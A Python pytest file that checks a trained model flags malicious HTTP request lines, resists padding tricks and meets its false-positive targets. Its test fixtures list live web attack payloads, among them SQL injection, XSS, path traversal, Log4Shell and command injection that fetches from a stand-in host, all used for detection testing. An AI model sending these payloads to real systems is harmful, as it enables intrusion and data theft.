"""The shipped text model comes out of its training again, and knows an attack when it sees one."""

from __future__ import annotations

import csv
import gzip
import os
from dataclasses import replace
from importlib.metadata import version
from pathlib import Path

import numpy as np
import pytest

from feature_store.columns import TextColumn
from models.errors import InvalidSource
from models.manifests import CHAMPIONS
from models.packs.access import PACK
from models.text_artifacts import MANIFEST, WEIGHTS, TextChampion, save, text_champion_of
from models.text_champion import OPERATED_AT, train
from models.text_model import text_scores, value_scores

ROOT = Path(__file__).resolve().parents[3]
DATA = Path(os.environ.get("CENTINELA_DATA", ROOT.parent / "shared" / "data"))
PAYLOADS = DATA / "access" / "http_params_payload_train.csv.gz"

ATTACKS = (
    "/item?id=7%27%20or%20%271%27%3D%271",
    "/item?id=1+union+all+select+null,version(),null--+-",
    "/item?id=(select(0)from(select(sleep(9)))v)",
    "/find?q=%3Csvg/onload%3Dconfirm(9)%3E",
    "/find?q=%22%3E%3Cscript%20src=//e.example%3E%3C/script%3E",
    "/view?file=..%2f..%2f..%2f..%2fetc%2fgroup",
    "/view?file=php://filter/convert.base64-encode/resource=config",
    "/ping?host=127.0.0.1;cat%20/etc/hosts",
    "/ping?host=$(wget%20http://e.example/a)",
    "/?x=${jndi:ldap://e.example/a}",
    "/?name={{7*7}}{{config.items()}}",
    "/?xml=%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E",
    "/page/%252e%252e%252f%252e%252e%252fetc%252fpasswd",
)
ORDINARY = (
    "/",
    "/index.php?option=com_content&view=article&id=49",
    "/search?q=rock+%27n%27+roll+mug",
    "/search?q=how+to+select+from+two+tables+in+sql",
    "/search?q=O%27Brien+%26+sons+(dublin)",
    "/blog/2014/02/what-is-cross-site-scripting.html",
    "/cart?coupon=SPRING-50%25&lang=es",
    "/img/summer%20holiday%20(3).jpg",
    "/login?next=https%3A%2F%2Fshop.example%2Faccount%3Ftab%3Dorders",
    "/v1/items?filter[price][min]=10&filter[price][max]=99.5&sort=-price",
    "/callback?state=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmN",
    "/direccion?calle=C%2F+Mayor+12%2C+3%C2%BA+B&ciudad=A+Coru%C3%B1a",
    "/a.css?v=3.2.1",
)


@pytest.fixture(scope="module")
def champion() -> TextChampion:
    return text_champion_of("access")


@pytest.mark.timeout(600)  # the fit itself takes half a minute of a free core
def test_the_shipped_text_model_is_reproduced_to_the_last_byte(
    champion: TextChampion, tmp_path: Path
) -> None:
    made = champion.manifest.training
    others = {
        name: version(name) for name in made.libraries if version(name) != made.libraries[name]
    }
    if others:
        pytest.skip(f"trained with {made.libraries}; installed are {others}")
    save(tmp_path, *train(PACK, made.seed, made.events))

    for file in (WEIGHTS, MANIFEST):
        assert (tmp_path / file).read_bytes() == (CHAMPIONS / "access" / file).read_bytes()


@pytest.mark.parametrize("request_line", ATTACKS)
def test_an_attack_is_seen_in_its_first_request(champion: TextChampion, request_line: str) -> None:
    assert text_scores(TextColumn.of([request_line]), champion.model)[0] >= OPERATED_AT


@pytest.mark.parametrize("request_line", ORDINARY)
def test_an_ordinary_request_is_not_suspected(champion: TextChampion, request_line: str) -> None:
    assert text_scores(TextColumn.of([request_line]), champion.model)[0] < OPERATED_AT


@pytest.mark.parametrize("request_line", ATTACKS[:4])
def test_padding_hides_no_attack(champion: TextChampion, request_line: str) -> None:
    prose = "+what+a+lovely+summer+we+had+in+the+mountains" * 40
    path, _, query = request_line.partition("?")
    name, _, value = query.partition("=")

    padded = f"{path}?a={prose}&{name}=my{prose}{value}{prose}&z={prose}"

    assert text_scores(TextColumn.of([padded]), champion.model)[0] >= OPERATED_AT


def test_metrics_are_those_of_a_model_that_can_be_left_alone(champion: TextChampion) -> None:
    metrics = champion.manifest.metrics

    assert metrics["ordinary_found"] <= 0.0005
    assert min(share for kind, share in metrics.items() if kind != "ordinary_found") >= 0.95


def test_real_payloads_are_found_and_real_values_left_alone(champion: TextChampion) -> None:
    """None of these values was fitted on."""
    if not PAYLOADS.exists():
        pytest.skip(f"{PAYLOADS} is missing")
    with gzip.open(PAYLOADS, "rt", newline="", encoding="utf-8") as lines:
        rows = list(csv.DictReader(lines))
    attack = np.array([row["label"] == "anom" for row in rows])

    found = value_scores(TextColumn.of([row["payload"] for row in rows]), champion.model) >= 0.99

    assert found[attack].mean() >= 0.98
    assert found[~attack].mean() <= 0.001


def test_a_pack_without_values_has_no_text_model() -> None:
    with pytest.raises(InvalidSource, match="pack access has no text model"):
        train(replace(PACK, values=None))
